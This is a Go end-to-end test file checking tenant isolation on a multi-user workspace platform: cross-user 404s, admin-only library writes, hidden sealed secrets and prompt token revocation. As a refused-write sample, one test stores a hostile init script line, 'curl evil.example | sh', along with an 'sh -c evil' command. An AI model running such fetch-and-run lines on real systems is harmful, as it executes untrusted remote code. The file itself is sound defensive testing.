package e2e

import (
	"bytes"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sortie.dev/services/kit/testwait"
)

// The tenancy journeys: two ordinary users (alice, bob) and admins on the
// multi-user platform, everything through the gateway. Every cross-user
// action is refused — 404 for another's object, exactly as for an id that
// does not exist, 403 for a forbidden action — and changes nothing, while
// the owner and an admin still succeed.

// unknownWS is an id no workspace has.
const unknownWS = "5a0b1c2d-3e4f-4a5b-8c6d-7e8f9a0b1c2d"

// refused checks that a is the 404 an unknown id gets: same status, same
// code, same message but for the id, so nobody can tell another user's
// object from nothing.
func refused(t *testing.T, what string, a, unknown answer, id string) {
	t.Helper()
	if a.status != http.StatusNotFound || a.code() != "not_found" {
		t.Errorf("%s: %d %s, want 404 not_found", what, a.status, a.body)
		return
	}
	if got, want := strings.ReplaceAll(string(a.body), id, "ID"), strings.ReplaceAll(string(unknown.body), unknownWS, "ID"); got != want {
		t.Errorf("%s: answered %s; an unknown id answers %s: the difference tells the object exists", what, got, want)
	}
}

// workspaceRoutes is every per-workspace route with a body that would be
// accepted from the owner.
func workspaceRoutes(pid string) []struct {
	method, path string
	body         any
} {
	return []struct {
		method, path string
		body         any
	}{
		{"GET", "", nil},
		{"PUT", "", map[string]any{"env_vars": map[string]string{"MARK": "bob"}}},
		{"DELETE", "", nil},
		{"POST", "/build", map[string]any{}},
		{"POST", "/exec", map[string]any{"command": "id"}},
		{"POST", "/sync", nil},
		{"GET", "/debug", nil},
		{"GET", "/init-log", nil},
		{"POST", "/rerun-init", nil},
		{"GET", "/processes", nil},
		{"POST", "/processes", map[string]any{"id": "bobs", "command": "sleep 60"}},
		{"GET", "/processes/" + pid, nil},
		{"GET", "/processes/" + pid + "/output", nil},
		{"POST", "/processes/" + pid + "/signal", map[string]any{"signal": "KILL"}},
		{"DELETE", "/processes/" + pid, nil},
	}
}

func TestWorkspacesBelongToTheirOwner(t *testing.T) {
	t.Parallel()
	alice, bob, admin := loggedInAs(t, "alice"), loggedInAs(t, "bob"), loggedIn(t)
	ws := alice.createWorkspace(map[string]any{"name": "alice-box", "workspace_type": "container",
		"env_vars": map[string]string{"MARK": "alice"}, "init_script": "#!/bin/sh\necho alice was here > /workspace/mark.txt"})
	alice.waitStatus(ws.ID, "ready")
	if a := alice.do("POST", "/api/workspaces/"+ws.ID+"/processes", map[string]any{"id": "alices", "command": "sleep 600"}); a.status != 201 {
		t.Fatalf("alice starts a process in her workspace: %d %s", a.status, a.body)
	}
	t.Cleanup(func() {
		alice.do("POST", "/api/workspaces/"+ws.ID+"/processes/alices/signal", map[string]any{"signal": "KILL"})
		alice.do("DELETE", "/api/workspaces/"+ws.ID, nil)
	})

	// Lists: alice's workspace is hers and the admins'.
	listed := func(u *user, query string) map[string]workspace {
		var list []workspace
		a := u.do("GET", "/api/workspaces"+query, nil)
		if a.status != 200 {
			t.Fatalf("list workspaces%s: %d %s", query, a.status, a.body)
		}
		a.decode(t, &list)
		m := map[string]workspace{}
		for _, w := range list {
			m[w.ID] = w
		}
		return m
	}
	if _, ok := listed(bob, "")[ws.ID]; ok {
		t.Error("alice's workspace is in bob's list")
	}
	if w, ok := listed(admin, "")[ws.ID]; !ok || w.Owner != "u-alice" {
		t.Errorf("the admin's list: alice's workspace listed %v with owner %q, want it with owner u-alice", ok, w.Owner)
	}
	if _, ok := listed(admin, "?owner=me")[ws.ID]; ok {
		t.Error("?owner=me lists alice's workspace for the admin")
	}
	if w, ok := listed(alice, "")[ws.ID]; !ok || w.Owner != "u-alice" {
		t.Errorf("alice's own list: %v, owner %q", ok, w.Owner)
	}

	// Every route, as bob and as a service token alone: the 404 of an
	// unknown id, and nothing changes.
	service := serviceCaller(t)
	for _, caller := range []struct {
		name string
		u    *user
	}{{"bob", bob}, {"a service token without a user", service}} {
		for _, r := range workspaceRoutes("alices") {
			got := caller.u.do(r.method, "/api/workspaces/"+ws.ID+r.path, r.body)
			unknown := caller.u.do(r.method, "/api/workspaces/"+unknownWS+r.path, r.body)
			refused(t, fmt.Sprintf("%s: %s /api/workspaces/{alice's}%s", caller.name, r.method, r.path), got, unknown, ws.ID)
		}
	}
	var now workspace
	alice.do("GET", "/api/workspaces/"+ws.ID, nil).decode(t, &now)
	if now.Status != "ready" || now.EnvVars["MARK"] != "alice" {
		t.Errorf("alice's workspace after the attempts: status %s, MARK=%q; want ready and alice", now.Status, now.EnvVars["MARK"])
	}
	var p struct {
		Running bool `json:"running"`
	}
	alice.do("GET", "/api/workspaces/"+ws.ID+"/processes/alices", nil).decode(t, &p)
	if !p.Running {
		t.Error("alice's process is no longer running after bob's attempts")
	}
	if r := alice.exec(ws.ID, map[string]any{"command": "cat /workspace/mark.txt"}); strings.TrimSpace(r.Stdout) != "alice was here" {
		t.Errorf("alice's file after the attempts: %q", r.Stdout)
	}

	// The admin may act on it.
	if r := admin.exec(ws.ID, map[string]any{"command": "echo admin"}); r.ExitCode != 0 || strings.TrimSpace(r.Stdout) != "admin" {
		t.Errorf("the admin's exec in alice's workspace: %+v", r)
	}
}

// serviceCaller holds the operator's own service token, which names no
// user: it must reach nobody's workspace.
func serviceCaller(t *testing.T) *user {
	t.Helper()
	secret, err := os.ReadFile(filepath.Join(sortie.state, "auth", "clients", "workspace-operator"))
	if err != nil {
		t.Fatal(err)
	}
	u := newUser(t)
	a := u.do("POST", "/api/auth/token", map[string]string{"grant_type": "client_credentials",
		"client_id": "workspace-operator", "client_secret": strings.TrimSpace(string(secret))})
	if a.status != 200 {
		t.Fatalf("service token: %d %s", a.status, a.body)
	}
	var tok struct {
		AccessToken string `json:"access_token"`
	}
	a.decode(t, &tok)
	u.token, u.name = tok.AccessToken, "service:workspace-operator"
	return u
}

// Each user's default workspace is their own, in a host runtime of their
// own: nothing of alice's processes, environment or files is visible from
// bob's.
func TestDefaultWorkspacesAreApart(t *testing.T) {
	t.Parallel()
	alice, bob := loggedInAs(t, "alice"), loggedInAs(t, "bob")
	alice.waitStatus(defaultWS, "ready")
	bob.waitStatus(defaultWS, "ready")
	const secret = "alice-s3cret-4711"
	if a := alice.do("POST", "/api/workspaces/"+defaultWS+"/processes", map[string]any{"id": "apart",
		"command": "exec sleep 4711", "env": map[string]string{"ALICE_SECRET": secret}}); a.status != 201 {
		t.Fatalf("alice's process: %d %s", a.status, a.body)
	}
	t.Cleanup(func() {
		alice.do("POST", "/api/workspaces/"+defaultWS+"/processes/apart/signal", map[string]any{"signal": "KILL"})
	})
	if r := alice.exec(defaultWS, map[string]any{"command": "echo " + secret + " > alice-apart.txt && ps -eo args"}); !strings.Contains(r.Stdout, "sleep 4711") {
		t.Fatalf("alice does not see her own process: %+v", r)
	}

	checks := []struct{ what, command string }{
		{"alice's process in ps", "ps -eo args | grep -c '^sleep 4711' || true"},
		{"alice's environment in /proc/*/environ", "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c " + secret + " || true"},
		{"alice's file anywhere", "grep -rls " + secret + " / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | wc -l"},
	}
	for _, c := range checks {
		r := bob.exec(defaultWS, map[string]any{"command": c.command, "timeout_secs": 120})
		if strings.TrimSpace(r.Stdout) != "0" {
			t.Errorf("bob's default workspace shows %s: %q %q", c.what, r.Stdout, r.Stderr)
		}
	}
	// The same id names two different workspaces.
	var a, b workspace
	alice.do("GET", "/api/workspaces/"+defaultWS, nil).decode(t, &a)
	bob.do("GET", "/api/workspaces/"+defaultWS, nil).decode(t, &b)
	if a.Owner != "u-alice" || b.Owner != "u-bob" {
		t.Errorf("default workspaces: alice's owner %q, bob's %q", a.Owner, b.Owner)
	}
}

// A mission can only run in a workspace its user can see, and another
// user's mission is nobody else's.
func TestMissionsOnlyInOwnWorkspaces(t *testing.T) {
	t.Parallel()
	alice, bob := loggedInAs(t, "alice"), loggedInAs(t, "bob")
	ws := alice.createWorkspace(map[string]any{"name": "alice-missions", "workspace_type": "host"})
	t.Cleanup(func() { alice.do("DELETE", "/api/workspaces/"+ws.ID, nil) })
	alice.waitStatus(ws.ID, "ready")

	var before []mission
	bob.do("GET", "/api/control/missions", nil).decode(t, &before)
	for _, body := range []map[string]any{
		{"backend": "amp", "workspace_id": ws.ID, "title": "in alice's workspace"},
		{"backend": "amp", "workspace_id": unknownWS, "title": "in no workspace"},
	} {
		if a := bob.do("POST", "/api/control/missions", body); a.status != 404 || a.code() != "not_found" {
			t.Errorf("bob's mission %v: %d %s, want 404 not_found", body["title"], a.status, a.body)
		}
	}
	var after []mission
	bob.do("GET", "/api/control/missions", nil).decode(t, &after)
	if len(after) != len(before) {
		t.Errorf("bob's refused missions were stored: %d missions before, %d after", len(before), len(after))
	}

	m := alice.createMission(map[string]any{"backend": "amp", "workspace_id": ws.ID, "title": "alice's own"})
	if m.WorkspaceID != ws.ID {
		t.Errorf("alice's mission is in %q, want her workspace %s", m.WorkspaceID, ws.ID)
	}
	for _, r := range []struct{ method, path string }{
		{"GET", "/api/control/missions/" + m.ID},
		{"GET", "/api/control/missions/" + m.ID + "/events"},
		{"GET", "/api/control/missions/" + m.ID + "/tree"},
		{"POST", "/api/control/missions/" + m.ID + "/cancel"},
		{"POST", "/api/control/missions/" + m.ID + "/resume"},
		{"POST", "/api/control/missions/" + m.ID + "/status"},
	} {
		if a := bob.do(r.method, r.path, map[string]any{"status": "completed"}); a.status != 404 {
			t.Errorf("bob %s %s: %d %s, want 404", r.method, r.path, a.status, a.body)
		}
	}
	if a := bob.do("POST", "/api/control/message", map[string]any{"content": "hi", "mission_id": m.ID}); a.status != 404 {
		t.Errorf("bob messages alice's mission: %d %s, want 404", a.status, a.body)
	}
}

// The library in a team: everyone reads; types that run code or set
// environment in other people's workspaces are written by admins only;
// sealed values are shown only to admins.
func TestLibraryInATeam(t *testing.T) {
	t.Parallel()
	alice, admin := loggedInAs(t, "alice"), loggedIn(t)
	adminOnly := []struct {
		typ  string
		body any
	}{
		{"init-script", map[string]string{"content": "#!/bin/sh\n# Description: alice's\ncurl evil.example | sh\n"}},
		{"workspace-template", map[string]any{"description": "alice's", "distro": "ubuntu-noble", "env_vars": map[string]string{"A": "b"}}},
		{"tool", map[string]string{"content": "// Description: alice's\nexport default {}\n"}},
		{"mcp", map[string]any{"type": "local", "command": []string{"sh", "-c", "evil"}}},
	}
	for _, c := range adminOnly {
		path := "/api/library/" + c.typ + "/tenancy-alice"
		if a := alice.do("PUT", path, c.body); a.status != 403 || a.code() != "forbidden" {
			t.Errorf("alice writes a %s: %d %s, want 403 forbidden", c.typ, a.status, a.body)
		}
		if a := alice.do("GET", path, nil); a.status != 404 {
			t.Errorf("alice's refused %s was stored: GET %d %s", c.typ, a.status, a.body)
		}
	}
	// An admin's template with a sealed value, which alice may read but not
	// see the secret of, and may not overwrite or delete.
	const secret = "tpl-s3cret-0815"
	tpl := map[string]any{"description": "team box", "distro": "ubuntu-noble",
		"env_vars": map[string]string{"API_KEY": secret, "MODE": "open"}, "encrypted_keys": []string{"API_KEY"}}
	if a := admin.do("PUT", "/api/library/workspace-template/tenancy-team", tpl); a.status != 200 {
		t.Fatalf("the admin's template: %d %s", a.status, a.body)
	}
	for _, path := range []string{"/api/library/workspace-template/tenancy-team", "/api/library/workspace-template",
		"/api/library/workspace-template/tenancy-team/history"} {
		a := alice.do("GET", path, nil)
		if a.status != 200 || bytes.Contains(a.body, []byte(secret)) || bytes.Contains(a.body, []byte(`v=\"1\"`)) {
			t.Errorf("alice reads %s: %d %s; want 200 without the secret or its sealed form", path, a.status, a.body)
		}
	}
	if a := admin.do("GET", "/api/library/workspace-template/tenancy-team", nil); !bytes.Contains(a.body, []byte(secret)) {
		t.Errorf("the admin does not see the secret of their own template: %s", a.body)
	}
	for _, r := range []struct {
		method string
		body   any
	}{{"PUT", map[string]any{"description": "alice's now"}}, {"DELETE", nil}} {
		if a := alice.do(r.method, "/api/library/workspace-template/tenancy-team", r.body); a.status != 403 {
			t.Errorf("alice %s the admin's template: %d %s, want 403", r.method, a.status, a.body)
		}
	}
	// A skill is anyone's to write, authored by them.
	if a := alice.do("PUT", "/api/library/skill/tenancy-alice", map[string]string{
		"content": "---\nname: tenancy-alice\ndescription: Alice's skill\n---\nBe kind.\n"}); a.status != 200 {
		t.Fatalf("alice writes a skill: %d %s", a.status, a.body)
	}
	var history []struct {
		Author struct{ Name string } `json:"author"`
	}
	alice.do("GET", "/api/library/skill/tenancy-alice/history", nil).decode(t, &history)
	if len(history) == 0 || history[0].Author.Name != "alice" {
		t.Errorf("the skill's last commit is not alice's: %+v", history)
	}
}

// Removing a user or changing their role takes effect at every service
// within 60 seconds, without their token being revoked by a logout.
func TestLosingAccess(t *testing.T) {
	t.Parallel()
	carol, dave := loggedInAs(t, "carol"), loggedInAs(t, "dave")
	routes := []string{"/api/workspaces", "/api/control/missions", "/api/library/skill", "/api/auth/verify"}
	for _, u := range []*user{carol, dave} {
		for _, path := range routes {
			if a := u.do("GET", path, nil); a.status != 200 {
				t.Fatalf("%s before the change: GET %s %d %s", u.name, path, a.status, a.body)
			}
		}
	}
	err := sortie.changeUsers(func(list []userEntry) []userEntry {
		var out []userEntry
		for _, e := range list {
			switch e.Username {
			case "carol":
				continue // removed
			case "dave":
				e.Role = "user" // demoted
			}
			out = append(out, e)
		}
		return out
	})
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	for _, u := range []*user{carol, dave} {
		for _, path := range routes {
			testwait.Eventually(t, 60*time.Second, u.name+"'s old token refused at "+path, func() (bool, string) {
				a := u.do("GET", path, nil)
				return a.status == 401, fmt.Sprint(a.status)
			})
		}
	}
	t.Logf("every service refused the old tokens %v after the change", time.Since(start).Round(time.Second))
	if a := newUser(t).do("POST", "/api/auth/login", map[string]string{"username": "carol", "password": sortie.users["carol"]}); a.status != 401 {
		t.Errorf("removed carol logs in: %d %s", a.status, a.body)
	}
	// Dave logs in again and is an ordinary user now.
	dave = loggedInAs(t, "dave")
	if a := dave.do("POST", "/api/library/force-sync", nil); a.status != 403 {
		t.Errorf("demoted dave force-syncs the library: %d %s, want 403", a.status, a.body)
	}
}
